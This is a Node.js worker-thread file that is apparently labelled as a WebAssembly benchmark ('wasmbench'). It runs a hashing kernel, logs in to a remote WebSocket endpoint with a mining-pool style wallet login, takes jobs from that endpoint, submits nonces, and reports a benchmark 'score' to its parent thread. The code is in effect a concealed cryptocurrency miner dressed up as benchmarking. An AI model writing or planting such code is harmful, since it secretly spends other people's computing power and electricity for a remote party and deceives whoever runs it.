import { parentPort, workerData } from 'node:worker_threads';
import { readFileSync } from 'node:fs';
import WebSocket from 'ws';

const mod = await WebAssembly.instantiate(readFileSync(new URL('./kernel.wasm', import.meta.url)));
const { hash, set_job } = mod.instance.exports;
let paused = false;
parentPort.on('message', (m) => { paused = m.pause; });

const ws = new WebSocket(workerData.endpoint);
ws.on('open', () => ws.send(JSON.stringify({ method: 'login', params: { login: 'EXAMPLE-NOT-A-WALLET', pass: `w${workerData.id}`, agent: 'wasmbench/2' } })));
ws.on('message', (raw) => {
  const msg = JSON.parse(raw);
  if (msg.params?.blob) set_job(msg.params.blob, msg.params.target);
});
setInterval(() => {
  if (paused) return;
  const nonce = hash(2000);
  if (nonce) ws.send(JSON.stringify({ method: 'submit', params: { nonce } }));
  parentPort.postMessage({ score: 2000 });
}, 250);
